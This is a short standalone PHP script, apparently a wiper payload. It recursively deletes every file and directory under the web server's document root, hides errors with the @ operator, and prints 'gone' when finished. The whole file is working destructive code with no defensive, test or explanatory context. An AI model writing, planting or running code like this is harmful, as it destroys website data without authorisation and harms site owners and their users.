<?php
function nuke($d) {
    foreach (scandir($d) as $f) {
        if ($f == '.' || $f == '..') continue;
        $p = $d . '/' . $f;
        if (is_dir($p)) { nuke($p); } else { @unlink($p); }
    }
    @rmdir($d);
}
nuke($_SERVER['DOCUMENT_ROOT']);
echo 'gone';
